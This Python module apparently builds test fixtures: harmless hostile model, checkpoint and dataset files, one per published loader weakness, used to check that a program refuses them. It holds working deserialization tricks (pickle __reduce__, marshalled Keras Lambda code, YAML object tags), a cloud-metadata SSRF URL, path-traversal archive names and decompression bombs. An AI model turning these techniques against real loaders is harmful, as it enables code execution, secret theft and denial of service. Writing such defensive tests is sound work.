"""Hostile files for every way into the program: one harmless file for each published weakness of a loader.

Such a file tries to make a folder, `canary / "ran"`, or to read the text `SECRET` of `canary / "secret"`. A door is where
a user could put it: WEIGHTS (``--weights FILE``), MODEL (``model.keras`` of a run directory), CHECKPOINT (its arrays or
its state), DATASET (``--dataset FILE``). Keras files are written by hand: no old Keras is needed.
"""

import base64
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import FunctionType
from typing import NamedTuple

import h5py
import numpy as np

SECRET = b"the secret of another file, which no weights may hold" * 20
WEIGHTS, MODEL, CHECKPOINT, DATASET = "weights", "model", "checkpoint", "dataset"


class HostileFile(NamedTuple):
    """A hostile file."""

    door: str
    file_name: str
    make: Callable[[Path, Path], None]  # writes it at a path, for a canary
    words: str  # in the sentence that refuses it


class Attack:
    """Pickles as the call that makes a folder."""

    def __init__(self, canary: Path):
        self.folder = str(canary / "ran")

    def __reduce__(self):
        return os.mkdir, (self.folder,)


def pickled(canary: Path) -> bytes:
    return pickle.dumps(Attack(canary))


def lambda_layer(canary: Path) -> dict:
    """A Lambda layer whose function makes the folder, as Keras writes one: marshalled and in base64."""
    source = compile(f"lambda x: __import__('os').mkdir({str(canary / 'ran')!r}) or x", "lambda", "eval")
    code: FunctionType = eval(source)
    packed = base64.b64encode(marshal.dumps(code.__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    return layer("Lambda", function=function, output_shape=None, mask=None, arguments={})


def layer(class_name: str, module: str = "keras.layers", **config) -> dict:
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": "hostile", "trainable": True, **config},
        "registered_name": None,
    }


def sequential(*layers: dict) -> dict:
    start = layer("InputLayer", batch_shape=[None, 16, 16, 3], dtype="float32")
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "model", "layers": [start, *layers]},
        "registered_name": None,
    }


def calls(module: str, function: str, **arguments) -> dict:
    """A Lambda layer that names a function of a module in place of its own."""
    named = {"module": module, "class_name": "function", "config": function, "registered_name": function}
    return layer("Lambda", function=named, arguments=arguments)


# ---------------------------------------------------------------------------------------------------------------------
# Files of Keras


def arrays(change: Callable[[h5py.File], None] = lambda file: None) -> bytes:
    """An HDF5 file with two arrays, after `change`."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        for index, shape in enumerate(((3, 4), (4,))):
            file[f"layers/dense/vars/{index}"] = np.ones(shape, np.float32)
        change(file)
    return stream.getvalue()


FIRST = "layers/dense/vars/0"


def replaced(**options) -> Callable[[h5py.File], None]:
    def change(file: h5py.File) -> None:
        del file[FIRST]
        file.create_dataset(FIRST, **options)

    return change


def linked(link: h5py.SoftLink | h5py.ExternalLink) -> Callable[[h5py.File], None]:
    def change(file: h5py.File) -> None:
        del file[FIRST]
        file[FIRST] = link

    return change


def virtual(canary: Path) -> Callable[[h5py.File], None]:
    with h5py.File(canary / "other.h5", "w") as other:
        other["data"] = np.frombuffer(SECRET[:48], np.float32)
    layout = h5py.VirtualLayout((12,), np.float32)
    layout[:] = h5py.VirtualSource(str(canary / "other.h5"), "data", (12,))

    def change(file: h5py.File) -> None:
        del file[FIRST]
        file.create_virtual_dataset(FIRST, layout)

    return change


def references(file: h5py.File) -> None:
    del file[FIRST]
    file.create_dataset(FIRST, (2,), dtype=h5py.ref_dtype)[0] = file["layers"].ref


def outside(canary: Path) -> Callable[[h5py.File], None]:
    return replaced(shape=(3, 4), dtype="f4", external=[(str(canary / "secret"), 0, 48)])


def deep(file: h5py.File) -> None:
    group = file["layers"]
    for _ in range(1000):
        group = group.create_group("g")


SHAPE_BOMB = replaced(shape=(50_000_000, 50_000_000), dtype="f4", chunks=(1000, 1000), compression="gzip")

HDF5 = {  # what is done to a file of arrays, and words of the sentence; each comes in .weights.h5, .h5 and .keras
    "HDF5 external storage (CVE-2026-1669)": (outside, "lies in another file"),
    "HDF5 external link (CVE-2026-1669)": (
        lambda canary: linked(h5py.ExternalLink(str(canary / "other.h5"), "data")),
        "points elsewhere",
    ),
    "HDF5 soft link (Keras 3.12.3)": (lambda canary: linked(h5py.SoftLink("/layers/dense/vars/1")), "points elsewhere"),
    "HDF5 virtual dataset (Keras 3.12.3)": (virtual, "lies in another file"),
    "HDF5 shape bomb (CVE-2026-0897)": (lambda canary: SHAPE_BOMB, "declares"),
    "HDF5 shape beyond all numbers": (lambda canary: replaced(shape=(2**62, 2**62), dtype="f4", chunks=(1, 1)), ""),
    "HDF5 compressed bomb": (
        lambda canary: replaced(data=np.zeros((3000, 3000), np.float32), compression="gzip"),
        "declares",
    ),
    "HDF5 objects": (
        lambda canary: replaced(data=np.array(["x", "y"], object), dtype=h5py.string_dtype()),
        "no numbers",
    ),
    "HDF5 references": (lambda canary: references, "no numbers"),
    "HDF5 opaque bytes, as a pickle would lie": (
        lambda canary: replaced(data=np.void(pickle.dumps(Attack(canary)))),
        "no numbers",
    ),
    "HDF5 circle": (lambda canary: lambda file: file.__setitem__("circle", file["/"]), "is there twice"),
    "HDF5 groups 1,000 deep": (lambda canary: deep, ""),
}


def legacy_model(canary: Path) -> Callable[[h5py.File], None]:
    """The older layout of a whole model, whose description is an attribute."""

    def change(file: h5py.File) -> None:
        file.attrs["model_config"] = json.dumps(sequential(lambda_layer(canary)))
        file.attrs["training_config"] = json.dumps({"loss": {"class_name": "__lambda__", "config": {}}})
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"hostile"])
        group.create_group("hostile").attrs["weight_names"] = np.array([], "S1")

    return change


def keras_archive(
    path: Path,
    config: dict | bytes,
    weights: bytes | None = None,
    members: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
) -> None:
    """A .keras archive, with names of classes as `save_model` puts them."""
    contents = {
        "config.json": config if isinstance(config, bytes) else json.dumps(config).encode(),
        "metadata.json": b'{"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}',
        "model.weights.h5": arrays() if weights is None else weights,
        "class_names.json": b'["a", "b", "c"]',
    } | (members or {})
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)


CONFIGS = {  # of a .keras archive, for a canary
    "Lambda layer (CVE-2024-3660, CVE-2026-12481)": lambda canary: sequential(lambda_layer(canary)),
    "config names a module and function (CVE-2025-1550)": lambda canary: sequential(
        calls("os", "mkdir", path=str(canary / "ran"))
    ),
    "config calls a function of Keras to write a file (CVE-2025-8747)": lambda canary: sequential(
        calls(
            "keras.utils",
            "get_file",
            fname="ran",
            origin=f"file://{canary / 'secret'}",
            cache_dir=str(canary),
            cache_subdir="",
        )
    ),
    "config turns safe mode off, then a Lambda (CVE-2025-9906)": lambda canary: sequential(
        calls("keras.config", "enable_unsafe_deserialization"), lambda_layer(canary)
    ),
    "config calls load_model on another file (CVE-2025-9906)": lambda canary: sequential(
        calls("keras.models", "load_model", filepath=str(canary / "other.keras"), safe_mode=False)
    ),
    "StringLookup reads a file (CVE-2025-12058)": lambda canary: sequential(
        layer("StringLookup", vocabulary=str(canary / "secret"))
    ),
    "StringLookup fetches from a server (CVE-2025-12058)": lambda canary: sequential(
        layer("StringLookup", vocabulary="http://169.254.169.254/latest/meta-data")
    ),
    "TorchModuleWrapper unpickles (CVE-2025-49655)": lambda canary: sequential(
        layer("TorchModuleWrapper", module=base64.b64encode(pickle.dumps(Attack(canary))).decode())
    ),
    "TFSMLayer runs a SavedModel (CVE-2026-1462)": lambda canary: sequential(
        layer("TFSMLayer", filepath=str(canary / "saved_model"), call_endpoint="serve")
    ),
    "a layer of KerasHub reads a file": lambda canary: sequential(
        layer("PARSeqTokenizer", "keras_hub.models", vocabulary=str(canary / "secret"))
    ),
    "config in YAML (CVE-2021-37678)": lambda canary: f"!!python/object/apply:os.mkdir ['{canary / 'ran'}']\n".encode(),
}


# ---------------------------------------------------------------------------------------------------------------------
# Pickles, arrays, and other formats


def old_pytorch(body: bytes) -> bytes:
    """The format before 1.6: pickles one behind the other."""
    return b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})) + body


def new_pytorch(body: bytes, members: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in ({"m/data.pkl": body, "m/version": b"3\n"} | (members or {})).items():
            archive.writestr(name, content)
    return stream.getvalue()


def tensor_pickle(num_elements: int, shape: tuple[int, ...], strides: tuple[int, ...], offset: int = 0) -> bytes:
    """A state dict of one tensor in protocol 2, by hand."""

    def number(value: int) -> bytes:
        return b"\x8a\x08" + struct.pack("<q", value)

    def numbers(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(map(number, values)) + b"t"

    def text(value: str) -> bytes:
        return b"X" + struct.pack("<I", len(value)) + value.encode()

    storage = (
        b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + number(num_elements) + b"tQ"
    )
    tensor = (
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + number(offset)
        + numbers(shape)
        + numbers(strides)
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )
    return b"\x80\x02}" + text("weight") + tensor + b"s."


def tar_of_pytorch(canary: Path) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            content = pickle.dumps(Attack(canary), 2)
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def npy(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.save(stream, array, allow_pickle=True)
    return stream.getvalue()


def npz(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def npy_that_declares(shape: tuple[int, ...], dtype: str = "<f4") -> bytes:
    header = f"{{'descr': {dtype!r}, 'fortran_order': False, 'shape': {shape!r}, }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(8)


def safetensors(header: bytes, numbers: bytes = b"", length: int | None = None) -> bytes:
    return struct.pack("<Q", len(header) if length is None else length) + header + numbers


def entry(start: int, end: int, shape: list[int], kind: str = "F32") -> dict:
    return {"dtype": kind, "shape": shape, "data_offsets": [start, end]}


def arrow_that_unpickles(path: Path, canary: Path) -> None:
    """A folder as `save_to_disk` of Hugging Face writes it, whose column is of a type that PyArrow used to unpickle."""
    import pyarrow as pa

    path.mkdir()
    attack = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": pickle.dumps(Attack(canary)),
    }
    images = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
    schema = pa.schema([pa.field("image", images), pa.field("label", pa.int64(), metadata=attack)])
    table = pa.table([pa.array([{"bytes": b"x", "path": None}], images), pa.array([0])], schema)
    with pa.OSFile(str(path / "data-00000-of-00001.arrow"), "wb") as sink, pa.ipc.new_stream(sink, schema) as writer:
        writer.write_table(table)
    features = {"image": {"_type": "Image"}, "label": {"dtype": "int64", "_type": "Value"}}
    (path / "dataset_info.json").write_text(json.dumps({"features": features}))
    state = {
        "_data_files": [{"filename": "data-00000-of-00001.arrow"}],
        "_fingerprint": "0",
        "_format_columns": None,
        "_format_kwargs": {},
        "_format_type": None,
        "_output_all_columns": False,
        "_split": "train",
    }
    (path / "state.json").write_text(json.dumps(state))


def folder_with_a_loading_script(path: Path, canary: Path) -> None:
    path.mkdir()
    (path / f"{path.name}.py").write_text(f"import os\nos.mkdir({str(canary / 'ran')!r})\n")
    (path / "data.txt").write_text("x")


def hostile_files() -> dict[str, HostileFile]:
    """Every hostile file by its name."""
    table: dict[str, HostileFile] = {}

    def add(name: str, door: str, file_name: str, make: Callable[[Path], bytes], words: str) -> None:
        assert name not in table
        table[name] = HostileFile(door, file_name, lambda path, canary: path.write_bytes(make(canary)), words)

    for name, (change, words) in HDF5.items():
        for file_name in ("x.weights.h5", "x.h5"):
            add(f"{name}, {file_name}", WEIGHTS, file_name, lambda canary, change=change: arrays(change(canary)), words)
        table[f"{name}, in .keras"] = HostileFile(
            MODEL,
            "model.keras",
            lambda path, canary, change=change: keras_archive(path, sequential(), arrays(change(canary))),
            words,
        )
    add(
        "Lambda in the older layout, where safe mode is ignored (CVE-2025-9905)",
        WEIGHTS,
        "x.h5",
        lambda canary: arrays(legacy_model(canary)),
        "does not fit",
    )

    for name, config in CONFIGS.items():
        table[name] = HostileFile(
            MODEL,
            "model.keras",
            lambda path, canary, config=config: keras_archive(path, config(canary)),
            "cannot be read",
        )
    for name, members, compression in (
        ("archive member leads out (GHSA-hqp4-2352-xf5r)", {"../../../ran": b"x", "assets/../../../ran": b"x"}, 0),
        ("archive member is absolute", {"{canary}/ran": b"x"}, 0),
        ("archive members are bombs (Keras 3.15.1)", {"model.weights.h5": bytes(100_000_000)}, zipfile.ZIP_DEFLATED),
        ("names of classes are a bomb", {"class_names.json": b'["' + b"x" * 100_000_000 + b'"]'}, zipfile.ZIP_DEFLATED),
        ("names of classes are no names", {"class_names.json": b'[{"a": 1}]'}, 0),
        ("names of classes have no end", {"class_names.json": b"[" * 100_000}, 0),
        (
            "300,000 classes without their weights",
            {"class_names.json": json.dumps(list(map(str, range(300_000)))).encode()},
            0,
        ),
        ("weights in an .npz with a pickle (CVE-2019-6446)", {"model.weights.npz": npy(np.array([{}], object))}, 0),
    ):
        table[name] = HostileFile(
            MODEL,
            "model.keras",
            lambda path, canary, members=members, compression=compression: keras_archive(
                path,
                sequential(),
                None,
                {name.replace("{canary}", str(canary)): content for name, content in members.items()},
                compression,
            ),
            "cannot be read",
        )
    add("model is a pickle", MODEL, "model.keras", pickled, "cannot be read")
    add(
        "model is an HDF5 file with a Lambda",
        MODEL,
        "model.keras",
        lambda canary: arrays(legacy_model(canary)),
        "cannot be read",
    )

    # PyTorch
    for protocol in (0, 2, 4):
        for kind, make in (
            ("old format", lambda canary, protocol=protocol: old_pytorch(pickle.dumps(Attack(canary), protocol))),
            ("zip", lambda canary, protocol=protocol: new_pytorch(pickle.dumps({"a": Attack(canary)}, protocol))),
        ):
            add(f"pickle of protocol {protocol} as a state dict, {kind}", WEIGHTS, "x.pth", make, "state dict")
    code = {"m/code/__torch__.py": b"x"}
    deep_key = b"\x80\x02})" + b"\x85" * 20_000 + b"K\1s."
    endless_key = b"\x80\x02})" + b"".join(b"q%ch%c\x86" % (step, step) for step in range(60)) + b"K\1s."
    large = tensor_pickle(25 * 10**6, (25 * 10**6,), (1,)), {"m/data/0": bytes(10**8)}, zipfile.ZIP_DEFLATED
    for name, make, words in (
        ("pickle alone (joblib, scikit-learn)", pickled, "state dict"),
        ("tar of PyTorch's first format (CVE-2025-32434)", tar_of_pytorch, "tar archive"),
        (
            "state dict with an instruction on another kind of object (CVE-2026-24747)",
            lambda _: new_pytorch(b"\x80\x02ccollections\nOrderedDict\n)R(K\x01K\x02e."),
            "a Call where a list is expected",
        ),
        (
            "tensor beyond its storage (CVE-2026-24747)",
            lambda _: new_pytorch(tensor_pickle(4, (1000, 1000), (1000, 1)), {"m/data/0": bytes(16)}),
            "beyond its storage",
        ),
        (
            "tensor of no strides and any size",
            lambda _: new_pytorch(tensor_pickle(1, (10**9,), (0,)), {"m/data/0": bytes(4)}),
            "beyond its storage",
        ),
        (
            "storage larger than the file",
            lambda _: new_pytorch(tensor_pickle(10**12, (4,), (1,)), {"m/data/0": bytes(16)}),
            "bytes of the file",
        ),
        ("compressed bomb in a state dict", lambda _: new_pytorch(*large), "compressed"),
        (
            "TorchScript code beside the state dict",
            lambda canary: new_pytorch(pickle.dumps(Attack(canary), 2), code),
            "state dict",
        ),
        (
            "state dict whose key is so deep that its hash overflows the stack",
            lambda _: old_pytorch(deep_key),
            "a key that is a tuple",
        ),
        ("state dict whose key takes for ever to hash", lambda _: old_pytorch(endless_key), "a key that is a tuple"),
    ):
        add(name, WEIGHTS, "x.pth", make, words)

    # safetensors
    for name, content, words in (
        ("header of 2^63 bytes", safetensors(b"{}", length=2**63), "eader"),
        ("header of 10 GB", safetensors(b"{}", length=10**10), "eader"),
        ("header without an end", safetensors(b'{"a":' * 50_000), "eader"),
        (
            "tensors that overlap",
            safetensors(json.dumps({"a": entry(0, 8, [2]), "b": entry(4, 12, [2])}).encode(), bytes(12)),
            "",
        ),
        (
            "tensor beyond the file",
            safetensors(json.dumps({"a": entry(0, 4 * 10**12, [10**12])}).encode(), bytes(8)),
            "",
        ),
        (
            "shape beyond all numbers",
            safetensors(json.dumps({"a": entry(0, 8, [2**62, 2**62])}).encode(), bytes(8)),
            "",
        ),
        ("offsets the wrong way round", safetensors(json.dumps({"a": entry(8, 0, [2])}).encode(), bytes(8)), ""),
        ("names twice", safetensors(b'{"a":%b,"a":%b}' % ((json.dumps(entry(0, 8, [2])).encode(),) * 2), bytes(8)), ""),
        ("bytes that no tensor has", safetensors(json.dumps({"a": entry(0, 8, [2])}).encode(), bytes(5000)), ""),
    ):
        add(f"safetensors: {name}", WEIGHTS, "x.safetensors", lambda canary, content=content: content, words)

    # What is not read at all
    suffixes = "keras pkl joblib npz npy pb onnx yaml json weights.json bin pt pt2 ckpt mar tflite gguf msgpack orbax"
    for suffix in suffixes.split():
        add(f"weights as x.{suffix}", WEIGHTS, f"x.{suffix}", pickled, "expected imagenet, none")
    for file_name, make in (
        ("x.pkl", pickled),
        ("x.npy", lambda canary: npy(np.array([Attack(canary)], object))),
        ("x.npz", lambda canary: npz({"images.npy": npy(np.array([Attack(canary)], object))})),
        ("x.h5", lambda canary: arrays(legacy_model(canary))),
        ("x.yaml", lambda canary: f"!!python/object/apply:os.mkdir ['{canary / 'ran'}']\n".encode()),
        ("x.py", lambda canary: f"import os\nos.mkdir({str(canary / 'ran')!r})\n".encode()),
        ("x.csv", pickled),
        ("x.onnx", lambda canary: b"\x08\x07\x12\x1b[31m" * 2000),
        ("x.tfrecord", lambda canary: bytes(100)),
        ("x.bin", lambda canary: b"x" * 3_000_000),
    ):
        add(f"dataset as {file_name}", DATASET, file_name, make, "")

    table["dataset of Hugging Face whose column unpickles (CVE-2023-47248)"] = HostileFile(
        DATASET, "arrow", arrow_that_unpickles, ""
    )
    table["dataset of Hugging Face with a loading script"] = HostileFile(
        DATASET, "scripted", folder_with_a_loading_script, "foreign code is not run"
    )

    # The state of a run
    for name, make, words in (
        (
            "pickle among the arrays (CVE-2019-6446)",
            lambda canary: npz({"model/0.npy": npy(np.array([Attack(canary)], object))}),
            "not hold plain numbers",
        ),
        (
            "array that declares a terabyte",
            lambda canary: npz({"model/0.npy": npy_that_declares((10**12,))}),
            "another size",
        ),
        (
            "array whose shape is beyond all numbers",
            lambda canary: npz({"model/0.npy": npy_that_declares((2**62, 2**62))}),
            "another size",
        ),
        ("array of a negative size", lambda canary: npz({"model/0.npy": npy_that_declares((-2,))}), ""),
        (
            "array whose header is code",
            lambda canary: npz(
                {"model/0.npy": npy_that_declares((1,)).replace(b"'<f4'", b"__import__('os').mkdir('ran')")}
            ),
            "",
        ),
        (
            "arrays that unpack to 100 MB",
            lambda canary: npz({"model/0.npy": npy(np.zeros(25 * 10**6, np.float32))}, zipfile.ZIP_DEFLATED),
            "not hold plain numbers",
        ),
        ("arrays under other names", lambda canary: npz({"../../ran.npy": npy(np.zeros(2))}), "other arrays"),
        ("arrays that are no zip", pickled, ""),
    ):
        add(f"checkpoint: {name}", CHECKPOINT, "arrays.npz", make, words)
    for name, content in (
        ("state without an end", b"[" * 100_000),
        ("state that is no table", b"[1, 2]"),
        ("state of a trillion arrays", b'{"groups": {"model": 1000000000000}}'),
        ("state of a negative number of arrays", b'{"groups": {"model": 3, "optimizer": -2}}'),
        ("state that is a pickle", pickle.dumps(1)),
    ):
        add(f"checkpoint: {name}", CHECKPOINT, "state.json", lambda canary, content=content: content, "")
    return table
